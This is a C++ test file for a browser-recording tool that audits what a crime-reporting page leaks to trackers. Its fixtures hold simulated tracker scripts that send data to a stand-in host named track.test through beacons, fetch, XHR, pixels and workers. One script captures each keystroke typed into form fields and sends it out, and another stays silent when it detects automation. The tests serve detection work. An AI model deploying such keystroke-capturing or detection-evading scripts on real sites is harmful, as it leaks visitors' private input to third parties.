// The browser driven against a site on loopback under several host names: what its server received is the ground truth,
// and every byte of it must be in the recording; and with answering here, nothing may reach the server, and nothing may
// be missing.
#include "site/browser.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <set>

#include "site/url.h"
#include "site/web_server.h"
#include "test_support.h"

namespace tipstaff::site {
namespace {

using test::Arrived;
using test::Served;
using test::WebServer;

// Fifteen ways to tell something, each under a path of its own. E is the tracker.
const char* const kTransports = R"(<!doctype html><title>Report a crime</title><h1>Report a crime</h1>
<iframe name=target></iframe><iframe src="FRAME"></iframe>
<form id=f method=post target=target action="Eform"><input name=offence value="form ‘ü’"></form>
<script src="Ecode.js"></script>
<script>
const E = "E";
navigator.sendBeacon(E + "beacon-string", "string");
navigator.sendBeacon(E + "beacon-blob", new Blob(["blob"], {type: "text/plain"}));
navigator.sendBeacon(E + "beacon-json", new Blob([JSON.stringify({offence: "json"})], {type: "text/plain"}));
navigator.sendBeacon(E + "beacon-buffer", new Uint8Array([0, 1, 2, 255, 254]).buffer);
const data = new FormData(); data.append("offence", "form data"); data.append("file", new Blob(["in a file"]), "a.txt");
navigator.sendBeacon(E + "beacon-form", data);
fetch(E + "fetch-string", {method: "POST", body: "fetched", mode: "no-cors"});
fetch(E + "fetch-blob", {method: "POST", body: new Blob(["fetched ", "blob"]), mode: "no-cors"});
fetch(E + "fetch-keepalive", {method: "POST", body: new Blob(["kept alive"]), keepalive: true, mode: "no-cors"});
const x = new XMLHttpRequest(); x.open("POST", E + "xhr"); x.send(new Blob(["xhr"]));
new Image().src = E + "pixel?offence=in the address";
new Worker("/worker.js");
navigator.serviceWorker.register("/service.js");
addEventListener("load", () => document.getElementById("f").submit());
addEventListener("pagehide", () => {
  navigator.sendBeacon(E + "hide-beacon", new Blob(["hidden"]));
  fetch(E + "hide-fetch", {method: "POST", body: new Blob(["hidden and kept alive"]), keepalive: true, mode: "no-cors"});
});
addEventListener("unload", () => navigator.sendBeacon(E + "unload", "unloaded"));
</script>)";
const std::vector<std::string> kPaths{"beacon-string", "beacon-blob", "beacon-json",     "beacon-buffer", "beacon-form",
                                      "fetch-string",  "fetch-blob",  "fetch-keepalive", "xhr",           "pixel",
                                      "worker",        "service",     "frame",           "form",          "hide-beacon",
                                      "hide-fetch",    "unload"};

std::string with(std::string text, const std::string& what, const std::string& by) {
  for (std::size_t at = 0; (at = text.find(what, at)) != std::string::npos; at += by.size())
    text.replace(at, what.size(), by);
  return text;
}

std::map<std::string, Served> site(int port) {
  const std::string end = ":" + std::to_string(port) + "/", tracker = "http://track.test" + end;
  const auto tells = [&](const std::string& how, const std::string& path) {
    return "fetch('" + tracker + path + "', {method: 'POST', body: new Blob(['" + how + "']), mode: 'no-cors'})";
  };
  std::string page = with(with(kTransports, "\"E\"", "\"" + tracker + "\""), "FRAME", "http://frame.test" + end);
  page = with(with(page, "\"Eform", "\"" + tracker + "form"), "\"Ecode", "\"" + tracker + "code");
  return {
      {"page.test/", {"text/html; charset=utf-8", page}},
      {"page.test/worker.js", {"text/javascript", tells("worker", "worker")}},
      {"page.test/service.js",
       {"text/javascript",
        "addEventListener('install', e => e.waitUntil(" + tells("service worker", "service") + "))"}},
      {"frame.test/",
       {"text/html", "<script>navigator.sendBeacon('" + tracker + "frame', new Blob(['in a frame']))</script>"}},
      {"track.test/code.js", {"text/javascript", "window.tracked = true; document.title += ' ✓'"}},
      {"clean.test/",
       {"text/html", "<title>Clean</title><link rel=stylesheet href='http://fonts.test" + end +
                         "a.css'><img src=/map.png><script>fetch('/count', {method: 'POST', body: 'own'})</script>"}},
      {"fonts.test/a.css", {"text/css", "body { color: black }"}},
      {"page.test/fields",
       {"text/html",
        "<input id=offence><input type=email name=mail><input type=hidden name=h><textarea></textarea><input type=tel "
        "disabled>"
        "<div id=d></div><script>const s = d.attachShadow({mode: 'open'}); s.innerHTML = '<input id=inner>';"
        "const tell = how => e => navigator.sendBeacon('" +
            tracker +
            "' + how, (e.composedPath()[0].id || e.target.name) + '=' + e.composedPath()[0].value);"
            "addEventListener('input', tell('typed')); addEventListener('focusout', tell('left'))</script>"}},
      {"page.test/shy",
       {"text/html",
        "<script>if (!navigator.webdriver && !/headless/i.test(navigator.userAgent)) navigator.sendBeacon('" + tracker +
            "shy', navigator.userAgent)</script>"}},
      {"page.test/idle",
       {"text/html", "<h1>Report</h1><script>const tell = how => navigator.sendBeacon('" + tracker +
                         "idle', how);"
                         "for (const on of ['mousemove', 'wheel', 'scroll']) addEventListener(on, () => tell(on), "
                         "{once: true, passive: true})</script><div style='height:5000px'></div>"
                         "<img loading=lazy width=9 height=9 src='" +
                         tracker +
                         "lazy'><p id=end>End</p><script>new IntersectionObserver(seen => seen[0].isIntersecting && "
                         "tell('end')).observe(end)</script>"}},
      {"page.test/moved", {"", "", 302, "http://page.test" + end + "clean"}},
      {"page.test/clean", {"text/html", "<title>There</title>"}}};
}

// The port is known only when the server listens; then its pages can name it.
class Web {
 public:
  Web() : server_(std::make_unique<WebServer>()) { server_->serve(site(server_->port())); }
  WebServer& operator*() { return *server_; }
  WebServer* operator->() { return server_.get(); }
  BrowserOptions options(Outside outside, int quiet = 1200) const {
    BrowserOptions out;
    out.arguments = {"--host-resolver-rules=MAP *.test 127.0.0.1",
                     "--unsafely-treat-insecure-origin-as-secure=" + server_->url("page.test", "")};
    out.outside = outside;
    out.quiet = std::chrono::milliseconds(quiet);
    out.owner = [](std::string_view host) { return std::string(host); };
    return out;
  }

 private:
  std::unique_ptr<WebServer> server_;
};

std::string path_of(const std::string& url) {
  const auto parsed = parse_url(url);
  return parsed && parsed->host == "track.test" ? std::string(parsed->path.substr(1)) : "";
}

Result<Recording> visit(std::vector<std::string> urls, const BrowserOptions& options) {
  WalkPlan plan;
  plan.urls = std::move(urls);
  plan.type = false;
  auto walked = walk(plan, options);
  if (!walked) return fail(walked.error());
  return std::move(walked->recording);
}

// Of what the tracker was told: path and body.
using Told = std::multiset<std::pair<std::string, std::string>>;
Told told(const std::vector<Exchange>& exchanges) {
  Told out;
  for (const Exchange& each : exchanges) {
    const std::string path = path_of(each.url);
    if (path.empty() || path == "code.js" || path == "favicon.ico") continue;
    EXPECT_NE(each.body.state, BodyState::kUnread) << each.url << ": " << each.body.why;
    out.emplace(path, each.body.bytes);
  }
  return out;
}

const Exchange* find(const Recording& recording, const std::string& path) {
  const auto found = std::find_if(recording.exchanges.begin(), recording.exchanges.end(),
                                  [&](const Exchange& each) { return path_of(each.url) == path; });
  return found == recording.exchanges.end() ? nullptr : &*found;
}

TEST(Browser, EveryByteThatAServerReceivedIsInTheRecording) {
  Web web;
  const auto recording = visit({web->url("page.test")}, web.options(Outside::kAll, 2500));
  ASSERT_TRUE(recording) << recording.error().text();
  EXPECT_THAT(recording->unread, testing::IsEmpty());
  const Told recorded = told(recording->exchanges);
  std::set<std::string> arrived_paths;
  for (const Arrived& each : web->arrived()) {
    const std::string path = path_of(each.url);
    if (path.empty() || each.method == "OPTIONS" || path == "code.js" || path == "favicon.ico") continue;
    arrived_paths.insert(path);
    EXPECT_EQ(recorded.count({path, each.body}), 1U) << path << " brought the server " << each.body.size() << " bytes";
  }
  // The site did all that it is there for; else nothing would be proven.
  EXPECT_THAT(arrived_paths, testing::ElementsAreArray(std::set<std::string>(kPaths.begin(), kPaths.end())));
  EXPECT_EQ(recorded.size(), kPaths.size());
}

TEST(Browser, NothingLeavesAndNothingIsMissingWhenAnsweredHere) {
  Web web;
  const auto recording = visit({web->url("page.test")}, web.options(Outside::kCode, 2500));
  ASSERT_TRUE(recording) << recording.error().text();
  EXPECT_THAT(recording->unread, testing::IsEmpty());
  std::set<std::string> paths;
  for (const auto& [path, body] : told(recording->exchanges)) paths.insert(path);
  EXPECT_THAT(paths, testing::ElementsAreArray(std::set<std::string>(kPaths.begin(), kPaths.end())));
  for (const Arrived& each : web->arrived())
    EXPECT_TRUE(path_of(each.url).empty() || path_of(each.url) == "code.js") << each.method << ' ' << each.url;
  EXPECT_THAT(recording->notes, testing::Contains(testing::HasSubstr("that this program answered")));

  ASSERT_NE(find(*recording, "beacon-buffer"), nullptr);
  EXPECT_EQ(find(*recording, "beacon-buffer")->body.bytes, std::string("\0\1\2\xff\xfe", 5));
  EXPECT_EQ(find(*recording, "beacon-buffer")->asked, Asked::kBeacon);
  EXPECT_EQ(find(*recording, "hide-beacon")->step, "leave the page");
  EXPECT_EQ(find(*recording, "beacon-string")->step, "");
  EXPECT_EQ(find(*recording, "beacon-string")->status, 0);
  EXPECT_EQ(find(*recording, "frame")->document, web->url("frame.test"));
  EXPECT_EQ(find(*recording, "code.js")->status, 200);
  // Chromium sometimes has let go of a script's text by the time it is asked for; then that is said.
  const Body& code = find(*recording, "code.js")->answer;
  EXPECT_NE(code.state, BodyState::kNone);
  EXPECT_EQ(code.bytes.starts_with("window.tracked"), code.state == BodyState::kWhole);
  ASSERT_EQ(recording->pages.size(), 1U);
  EXPECT_EQ(recording->pages[0].title, "Report a crime ✓");  // the tracker's script ran
  EXPECT_THAT(recording->pages[0].screenshot, testing::StartsWith("\x89PNG"));
  EXPECT_THAT(recording->made_by, testing::StartsWith("Chromium 1"));
}

TEST(Browser, NothingAtAllLeavesWhereThatIsWanted) {
  Web web;
  const auto recording = visit({web->url("page.test")}, web.options(Outside::kNothing));
  ASSERT_TRUE(recording) << recording.error().text();
  for (const Arrived& each : web->arrived()) EXPECT_EQ(each.url.find("http://page.test"), 0U) << each.url;
  ASSERT_NE(find(*recording, "code.js"), nullptr);
  EXPECT_EQ(recording->pages[0].title, "Report a crime");
}

TEST(Browser, PagesAreKeptApartAndCleanOnesStayClean) {
  Web web;
  const auto recording = visit({web->url("clean.test"), web->url("page.test", "/moved")}, web.options(Outside::kCode));
  ASSERT_TRUE(recording) << recording.error().text();
  ASSERT_EQ(recording->pages.size(), 2U);
  EXPECT_EQ(recording->pages[0].title, "Clean");
  EXPECT_EQ(recording->pages[1].title, "There");
  EXPECT_EQ(recording->pages[1].url, web->url("page.test", "/clean"));
  bool own = false;
  for (const Exchange& each : recording->exchanges) {
    EXPECT_EQ(path_of(each.url), "");
    own |= each.url == web->url("clean.test", "/count") && each.page == 0 && each.body.bytes == "own";
  }
  EXPECT_TRUE(own);
  EXPECT_THAT(recording->notes, testing::Not(testing::Contains(testing::HasSubstr("that this program answered"))));
}

TEST(Browser, EveryFieldIsTypedIntoOnceAndNothingSubmitted) {
  Web web;
  WalkPlan plan;
  plan.urls = {web->url("page.test", "/fields")};
  const auto walked = walk(plan, web.options(Outside::kCode));
  ASSERT_TRUE(walked) << walked.error().text();
  const Recording* recording = &walked->recording;
  const std::vector<Typed>& typed = walked->typed;
  ASSERT_EQ(typed.size(), 4U);  // neither the hidden nor the disabled one
  EXPECT_EQ(typed[0].field, "#offence");
  EXPECT_EQ(typed[1].field, "name=mail");
  EXPECT_THAT(typed[1].value, testing::EndsWith("@example.org"));
  EXPECT_EQ(typed[2].field, "textarea field 3");
  EXPECT_EQ(typed[3].field, "#inner");
  std::set<std::string> values;
  for (const Typed& each : typed) values.insert(each.value);
  EXPECT_EQ(values.size(), typed.size());
  const Told all = told(recording->exchanges);
  EXPECT_EQ(all.count({"typed", "offence=" + typed[0].value}), 1U);
  EXPECT_EQ(all.count({"left", "offence=" + typed[0].value}), 1U);
  EXPECT_EQ(all.count({"typed", "inner=" + typed[3].value}), 1U);
  ASSERT_NE(find(*recording, "typed"), nullptr);
  EXPECT_EQ(find(*recording, "typed")->step, "type into #offence");
  for (const Arrived& each : web->arrived()) EXPECT_EQ(path_of(each.url), "");
}

TEST(Browser, WhoKeepsQuietBeforeProgramsTellsAllTheSame) {
  Web web;
  const auto recording = visit({web->url("page.test", "/shy")}, web.options(Outside::kAll));
  ASSERT_TRUE(recording) << recording.error().text();
  ASSERT_NE(find(*recording, "shy"), nullptr);
  EXPECT_THAT(find(*recording, "shy")->body.bytes,
              testing::HasSubstr(" Chrome/" + recording->made_by.substr(9, 3) + ".0.0.0 "));
  for (const Arrived& each : web->arrived())
    EXPECT_THAT(each.headers.at("user-agent"), testing::HasSubstr(" Chrome/")) << each.url;
}

TEST(Browser, WhatWaitsForAVisitorToMoveIsWokenUp) {
  Web web;
  const auto recording = visit({web->url("page.test", "/idle")}, web.options(Outside::kCode, 400));
  ASSERT_TRUE(recording) << recording.error().text();
  const Told all = told(recording->exchanges);
  for (const char* how : {"mousemove", "wheel", "scroll", "end"}) EXPECT_EQ(all.count({"idle", how}), 1U) << how;
  ASSERT_NE(find(*recording, "lazy"), nullptr);
  EXPECT_EQ(find(*recording, "lazy")->step, "move and scroll");
  EXPECT_EQ(find(*recording, "idle")->step, "move and scroll");
}

TEST(Browser, NothingIsLeftBehind) {
  const test::TemporaryFolder own;
  const char* usual = std::getenv("TMPDIR");
  const std::string before = usual == nullptr ? "" : usual;
  setenv("TMPDIR", own.path().c_str(), 1);
  Web web;
  const auto recording = visit({web->url("clean.test")}, web.options(Outside::kCode));
  if (usual == nullptr)
    unsetenv("TMPDIR");
  else
    setenv("TMPDIR", before.c_str(), 1);
  ASSERT_TRUE(recording);
  EXPECT_TRUE(std::filesystem::is_empty(own.path()));
}

TEST(Browser, SaysWhatIsWrong) {
  Web web;
  BrowserOptions options = web.options(Outside::kCode);
  EXPECT_EQ(visit({"file:///etc/hostname"}, options).error().code(), Code::kUsage);
  EXPECT_EQ(visit({}, options).error().code(), Code::kUsage);
  options.program = "/nowhere/chromium";
  const auto absent = visit({web->url("page.test")}, options);
  ASSERT_FALSE(absent);
  EXPECT_EQ(absent.error().code(), Code::kNotFound);
  EXPECT_THAT(absent.error().text(), testing::HasSubstr("install the Debian package chromium"));
  options.program = "/bin/false";
  EXPECT_EQ(visit({web->url("page.test")}, options).error().code(), Code::kUnavailable);
}

TEST(Browser, APageThatCannotBeLoadedIsUnread) {
  Web web;
  const auto recording = visit({"http://nobody.test:1/"}, web.options(Outside::kCode));
  ASSERT_TRUE(recording) << recording.error().text();
  EXPECT_THAT(recording->unread, testing::ElementsAre(testing::HasSubstr("could not be loaded: net::ERR_")));
}

}  // namespace
}  // namespace tipstaff::site
